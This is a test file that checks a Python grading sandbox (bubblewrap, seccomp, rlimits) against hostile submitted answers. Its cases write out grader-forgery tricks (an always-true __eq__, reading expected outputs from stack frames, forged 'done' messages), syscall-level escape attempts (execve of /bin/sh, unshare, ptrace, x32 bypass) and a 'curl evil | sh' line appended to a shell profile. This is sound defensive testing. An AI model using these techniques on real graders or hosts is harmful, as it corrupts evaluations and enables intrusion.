/**
 * The opt-in CPython runtime (native.ts) against hostile answers. Here the answer is native code: through ctypes it
 * can make any system call, so each attack below goes straight for the kernel or the protocol, and every case checks
 * what hostile.test.ts checks (the verdict, the host's state, then a wrong and a canonical answer graded afresh in the
 * same pool). The layers under test: the seccomp filter, bubblewrap's namespaces and read-only root, the rlimits, and
 * the host-side comparison, deadlines and line cap, which are the same as Pyodide's.
 */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";
import { createGrader } from "../../../src/core/grading/index.js";
import { createPythonGrader } from "../../../src/core/grading/python-grader.js";
import { SkillFollowingError } from "../../../src/core/errors.js";
import { probeConfinement, type Confinement } from "../../../src/core/sandbox/isolation.js";
import { NATIVE_CAPS, probeNativePython } from "../../../src/core/sandbox/native.js";
import { chooseRuntime, SandboxPool } from "../../../src/core/sandbox/runner.js";
import { sandboxDist } from "./support.js";
import { addReturning, addTask, hostileCases, secretTask, startHarness, tagReturning, uncached, WRONG, type Case, type Harness } from "./hostile-support.js";

const linux = process.platform === "linux";

let h: Harness;
before(async () => {
  if (linux) h = await startHarness("native", { native: true });
});
after(async () => {
  await h?.dispose();
});

const libc = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n";
/** Raw system call numbers (x86_64 / aarch64) of what the filter must refuse. */
const nr = (x86: number, arm: number) => `(${x86} if __import__('platform').machine() == 'x86_64' else ${arm})`;

const cases: Case[] = [
  // --- forging a verdict without escaping: the host compares, as for Pyodide ---
  { name: "returns an object whose __eq__ always says True", code: "class Yes:\n    def __eq__(self, o):\n        return True\n    __hash__ = None\n" + addReturning("Yes()"), reason: /got <Yes object> \(only Python's builtin types are compared/ },
  { name: "reads expected outputs from the harness frames", code: "import sys\ndef tag(a, b):\n    f = sys._getframe(1)\n    found = []\n    while f:\n        found += [v for v in f.f_locals.values() if isinstance(v, str) and len(v) == 12]\n        f = f.f_back\n    return found[0] if found else 'nothing'\n", task: secretTask, reason: /expected '[0-9a-f]{12}', got / },
  { name: "announces 'done' through the control object before running anything", code: "import sys\nctl = sys._getframe(1).f_locals['ctl']\nctl.send('{\"type\":\"done\",\"count\":3}')\n" + tagReturning("1"), task: secretTask, reason: /broke the sandbox protocol/ },
  {
    name: "writes forged output lines straight to every open file descriptor",
    code: "import os\nfor fd in range(3, 64):\n    for i in range(3):\n        try:\n            os.write(fd, b'{\"type\":\"out\",\"i\":%d,\"v\":\"guess\"}\\n' % i)\n        except OSError:\n            pass\n    try:\n        os.write(fd, b'{\"type\":\"done\",\"count\":3}\\n')\n    except OSError:\n        pass\n" + tagReturning("'x'"),
    task: secretTask,
    reason: /broke the sandbox protocol|got 'guess'/,
  },
  // --- processes and programs ---
  { name: "forks", code: "import os\npid = os.fork()\nif pid == 0:\n    os._exit(0)\n" + addReturning("a + b"), reason: /PermissionError: \[Errno 1\] Operation not permitted/ },
  { name: "runs a host program through subprocess", code: "import subprocess\nsubprocess.run(['touch', TMP + '/spawned'])\n" + addReturning("a + b"), reason: /PermissionError|Operation not permitted/, hostCheck: (x: Harness) => assert.ok(!existsSync(x.marker("spawned"))) },
  { name: "calls the fork system call itself through ctypes", code: libc + `r = libc.syscall(${nr(57, 220)}, 17, 0, 0, 0, 0)\nif r == 0:\n    libc._exit(0)\n` + addReturning("'fork=%d errno=%d' % (r, ctypes.get_errno())"), reason: /got 'fork=-1 errno=1'/ },
  { name: "replaces itself with a shell through execve", code: libc + "r = libc.execv(b'/bin/sh', (ctypes.c_char_p * 3)(b'sh', b'-c', None))\n" + addReturning("'exec=%d errno=%d' % (r, ctypes.get_errno())"), reason: /got 'exec=-1 errno=1'/ },
  { name: "asks for a new user namespace (the way to regain capabilities)", code: libc + "r = libc.unshare(0x10000000)\n" + addReturning("'unshare=%d errno=%d' % (r, ctypes.get_errno())"), reason: /got 'unshare=-1 errno=1'/ },
  { name: "traces its own parent with ptrace", code: libc + `r = libc.syscall(${nr(101, 117)}, 16, 1, 0, 0)\n` + addReturning("'ptrace=%d errno=%d' % (r, ctypes.get_errno())"), reason: /got 'ptrace=-1 errno=1'/ },
  { name: "switches to the x32 system call table (x86_64's filter bypass)", code: libc + "r = libc.syscall(0x40000000 + 57) if __import__('platform').machine() == 'x86_64' else -1\n" + addReturning("'x32=%d' % r"), reason: /got 'x32=-1'/ },
  { name: "starts a thread that keeps writing forged lines after returning", code: "import threading, os\ndef spam():\n    while True:\n        for fd in range(3, 16):\n            try:\n                os.write(fd, b'{\"type\":\"done\",\"count\":3}\\n')\n            except OSError:\n                pass\nthreading.Thread(target=spam, daemon=True).start()\n" + addReturning("a - b"), reason: /broke the sandbox protocol|expected 3, got -1/ },
  // --- the host ---
  { name: "signals a host process and the host", code: "import os\nout = []\nfor p in (PID, HOSTPID):\n    try:\n        os.kill(p, 9)\n        out.append('killed')\n    except OSError as e:\n        out.append(type(e).__name__)\n" + addReturning("','.join(out)"), reason: /got 'ProcessLookupError,ProcessLookupError'/ },
  { name: "connects to the host's loopback", code: "import socket\ns = socket.create_connection(('127.0.0.1', PORT), timeout=0.5)\n" + addReturning("a + b"), reason: /PermissionError|Operation not permitted/ },
  { name: "connects to a pathname Unix socket of the host", code: "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(SOCK)\n" + addReturning("a + b"), reason: /PermissionError|Operation not permitted/ },
  { name: "reads a host file", code: "data = open(TMP + '/secret.txt').read()\n" + addReturning("data"), reason: /FileNotFoundError/ },
  { name: "appends to a shell start-up file of the host", code: "open(TMP + '/profile', 'a').write('curl evil | sh\\n')\n" + addReturning("a + b"), reason: /FileNotFoundError|Read-only/ },
  { name: "appends to the interpreter's own library (what every later process imports)", code: "import os\nopen(os.__file__, 'a').write('x = 1\\n')\n" + addReturning("a + b"), reason: /Read-only file system|Permission denied/ },
  { name: "fills the private /tmp", code: "def add(a, b):\n    with open('/tmp/fill', 'wb') as f:\n        while True:\n            f.write(b'x' * (1 << 20))", reason: /No space left on device|File too large/ },
  // bubblewrap starts from an empty environment; Python adds LC_CTYPE (locale coercion) and bubblewrap PWD.
  { name: "reads the host's environment (keys, tokens, paths)", code: "import os\nleft = sorted(k for k in os.environ if k not in ('LC_CTYPE', 'PWD', 'ELECTRON_RUN_AS_NODE'))\n" + addReturning("'env:' + ','.join(left)"), reason: /got 'env:'/ },
  // --- limits ---
  // Reserved, untouched memory (calloc maps zero pages) reaches RLIMIT_AS at once, whatever a page fault costs here.
  { name: "reserves memory past the limit", code: "def add(a, b):\n    keep = []\n    while True:\n        keep.append(bytes(10 ** 8))", reason: /MemoryError/ },
  // Touched memory costs a page fault per 4 KiB: on a slow VM the deadline may come before the cap; either stops it.
  { name: "touches memory until it is stopped", code: "def add(a, b):\n    keep = []\n    while True:\n        keep.append(bytearray(10 ** 7))", reason: /out of memory|MemoryError|^timeout .*killed after the deadline/ },
  { name: "prints without end", code: "def add(a, b):\n    while True:\n        print('x' * 1000)", reason: /output limit/ },
  { name: "floods the raw file descriptors (dropped, as EvalPlus drops them) until its deadline", code: "import os\ndef add(a, b):\n    while True:\n        os.write(1, b'x' * 100000)\n        os.write(2, b'x' * 100000)", reason: /^timeout .*killed after the deadline/ },
  { name: "sleeps in C", code: "import ctypes\ndef add(a, b):\n    ctypes.CDLL(None).sleep(1000)", reason: /^timeout .*killed after the deadline/ },
  { name: "starts threads until it cannot", code: "import threading, time\ndef add(a, b):\n    ts = []\n    while True:\n        t = threading.Thread(target=time.sleep, args=(100,), daemon=True)\n        t.start()\n        ts.append(t)", reason: /RuntimeError: can't start new thread|MemoryError|out of memory|^timeout/ },
  { name: "exits the interpreter", code: "import sys\ndef add(a, b):\n    sys.exit(0)", reason: /SystemExit/ },
  { name: "kills its own process from C", code: "import os, signal\ndef add(a, b):\n    os.kill(os.getpid(), signal.SIGKILL)", reason: /sandbox process ended|killed|signal/ },
  // --- caps that count what the RSS watch does not see ---
  {
    name: "fills memfd files, shared memory the RSS watch does not see",
    code: "import os\ndef add(a, b):\n    held, fds = 0, []\n    try:\n        while held < 1024:\n            fd = os.memfd_create('x')\n            fds.append(fd)\n            os.write(fd, b'x' * (16 << 20))\n            held += 16\n    except OSError as e:\n        return 'memfd=%dMB %s' % (held, e.strerror)\n    return 'memfd=%dMB' % held",
    reason: /got 'memfd=0MB Operation not permitted'/,
  },
  {
    name: "fills SysV shared memory through ctypes (attach, touch, detach)",
    code: libc + "libc.shmat.restype = ctypes.c_void_p\ndef add(a, b):\n    held = 0\n    while held < 1024:\n        sid = libc.shmget(0, 16 << 20, 0o1600)\n        if sid < 0:\n            return 'shm=%dMB errno=%d' % (held, ctypes.get_errno())\n        p = libc.shmat(sid, None, 0)\n        ctypes.memset(p, 1, 16 << 20)\n        libc.shmdt(ctypes.c_void_p(p))\n        held += 16\n    return 'shm=%dMB' % held",
    reason: /got 'shm=0MB errno=1'/,
  },
  { name: "opens a POSIX message queue", code: libc + `r = libc.syscall(${nr(240, 180)}, b'q', 0o100 | 2, 0o600, None)\n` + addReturning("'mq=%d errno=%d' % (r, ctypes.get_errno())"), reason: /got 'mq=-1 errno=1'/ },
  { name: "writes to /dev/shm", code: "def add(a, b):\n    with open('/dev/shm/fill', 'wb') as f:\n        f.write(b'x' * (1 << 20))", reason: /Read-only file system|No such file|Permission denied/ },
  {
    name: "lists the descriptors it was started with",
    code: "import os\ndef add(a, b):\n    fds = sorted(int(f) for f in os.listdir('/proc/self/fd'))\n    return 'fds=' + ','.join(map(str, fds))",
    // 0-2, the protocol's private copy of fd 1 (3) and the listing's own descriptor (4): nothing inherited.
    reason: /got 'fds=0,1,2,3,4'/,
  },
].map((c) => ({ ...c, only: "native" as const }));

if (linux) hostileCases("hostile answers", () => h, cases, ["native"]);

test("an answer that starts threads until refused holds at most the documented task cap, with a reason naming it; the next answer runs normally", { skip: linux ? false : "Linux only" }, async () => {
  const grader = h.graders.native!;
  const code = "import threading, time\ndef add(a, b):\n    threading.stack_size(32768)\n    n, why = 0, ''\n    try:\n        while n < 100000:\n            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()\n            n += 1\n    except RuntimeError as e:\n        why = str(e)\n    return 'threads=%d %s' % (n, why)";
  const verdict = await grader.grade(addTask, uncached(code));
  const m = /got ["']threads=(\d+) (.*)["'] \(stopped/.exec(verdict.reason);
  assert.ok(m, verdict.reason);
  assert.ok(Number(m[1]) > 0 && Number(m[1]) < NATIVE_CAPS.tasks, `held ${m[1]} threads, cap ${NATIVE_CAPS.tasks} tasks`);
  assert.ok(m[2]!.includes(`can't start new thread: the sandbox's cap of ${NATIVE_CAPS.tasks} tasks per answer (RLIMIT_NPROC)`), m[2]);
  // A thread pool within the cap works, and the next answers are graded as usual.
  const pool = "from concurrent.futures import ThreadPoolExecutor\ndef add(a, b):\n    with ThreadPoolExecutor(16) as ex:\n        return list(ex.map(lambda _: a + b, range(32)))[-1]\n";
  const pooled = await grader.grade(addTask, uncached(pool));
  assert.equal(pooled.pass, true, pooled.reason);
  assert.equal((await grader.grade(addTask, uncached(WRONG))).pass, false);
  assert.equal((await grader.grade(addTask, uncached(addTask.canonicalSolution))).pass, true);
});

test("the CPython runtime is recorded as such: isolation native-confined, and its verdicts and expected outputs are cached apart from Pyodide's", { skip: linux ? false : "Linux only" }, async () => {
  const native = h.graders.native!;
  assert.equal(native.isolation, "native-confined");
  assert.match(native.pool.detail, /^cpython \(set; bwrap .*CPython 3\.\d+\.\d+ at \/.*; native CPython under bubblewrap.*seccomp/);
  const engine = createGrader({ python: "cpython", distDir: (await h.graderOptions())!.distDir! });
  try {
    const info = engine.prepare([addTask]);
    assert.equal(info.isolation, "native-confined");
    assert.equal(info.detail, native.pool.detail);
  } finally {
    await engine.dispose();
  }
  // One verdict cache shared by both runtimes: the CPython grader must check again, not reuse Pyodide's verdict.
  const shared = path.join(h.tmp, "shared-verdicts");
  const opts = await h.graderOptions();
  const pyodide = createPythonGrader({ ...opts, verdictCacheDir: shared, cacheDir: path.join(h.tmp, "shared-expected") });
  const cpython = createPythonGrader({ ...opts, verdictCacheDir: shared, cacheDir: path.join(h.tmp, "shared-expected"), python: "cpython" });
  try {
    const answer = "def add(a, b):\n    return a + b  # shared-cache case\n";
    assert.equal((await pyodide.grade(addTask, answer)).pass, true);
    const before = cpython.pool.usage.answers;
    assert.equal((await cpython.grade(addTask, answer)).pass, true);
    assert.equal(cpython.pool.usage.answers, before + 1, "the CPython grader ran the answer itself");
  } finally {
    await pyodide.dispose();
    await cpython.dispose();
  }
});

test("the CPython runtime refuses to start without bubblewrap, naming the setting to change", () => {
  for (const kind of ["unshare", "none"] as const) {
    assert.throws(
      () => probeNativePython({ kind, prefix: () => [], describe: kind, network: kind === "none" ? "host" : "namespace" }),
      (e: unknown) => e instanceof SkillFollowingError && /needs Linux with bubblewrap/.test(e.message) && /pyodide runtime/.test(e.options.hint ?? "") && e.options.hintIds?.includes("sandboxPython") === true,
    );
  }
});

test("auto (the default) picks CPython where its probe passes and Pyodide elsewhere, and says which and why", async () => {
  // Where the confinement is not bubblewrap, or bubblewrap is there but the interpreter's confined probe fails.
  const fake = (kind: Confinement["kind"], bubblewrap: string, prefix: string[]): Confinement => ({ kind, prefix: () => prefix, describe: kind, network: "namespace", bubblewrap });
  assert.deepEqual(chooseRuntime("auto", () => fake("unshare", "bwrap not found", [])), { python: "pyodide", why: "auto: pyodide (bwrap not found)" });
  assert.deepEqual(chooseRuntime("pyodide", () => assert.fail("an explicit pyodide probes nothing")), { python: "pyodide", why: "pyodide (set)" });
  if (linux) {
    const broken = chooseRuntime("auto", () => fake("bubblewrap", "bwrap 0.8.0", ["/bin/false"]));
    assert.equal(broken.python, "pyodide");
    assert.match(broken.why, /^auto: pyodide \(The CPython sandbox's probe did not show its filter holding \(exit 1/);
    assert.throws(() => chooseRuntime("cpython", () => fake("bubblewrap", "bwrap 0.8.0", ["/bin/false"])), /probe did not show its filter holding/, "an explicit cpython never falls back");
  }
  // This machine, whatever it has: the pool runs what the choice names, and the header's detail starts with it.
  const pool = SandboxPool.create({ distDir: await sandboxDist(), python: "auto", poolSize: 1 });
  try {
    const real = chooseRuntime("auto");
    assert.equal(pool.choice.why, real.why);
    assert.ok(pool.detail.startsWith(`${real.why}; `), pool.detail);
    if (real.python === "cpython") {
      assert.equal(pool.isolation, "native-confined");
      assert.match(real.why, /^auto: cpython \(bwrap \d+\.\d+(\.\d+)?, CPython 3\.(1[1-9]|[2-9]\d)\.\d+ at \/\S+\)$/);
      assert.equal(probeConfinement().kind, "bubblewrap");
    } else {
      assert.notEqual(pool.isolation, "native-confined");
      assert.match(real.why, /^auto: pyodide \(.+\)$/);
    }
    // And the interpreter it starts is that runtime's: emscripten for Pyodide, the host's platform for CPython.
    const r = await pool.exec("import sys\nprint(sys.platform)", 60_000);
    assert.equal(r.stdout.trim(), real.python === "cpython" ? "linux" : "emscripten", JSON.stringify(r));
  } finally {
    await pool.finish();
  }
});
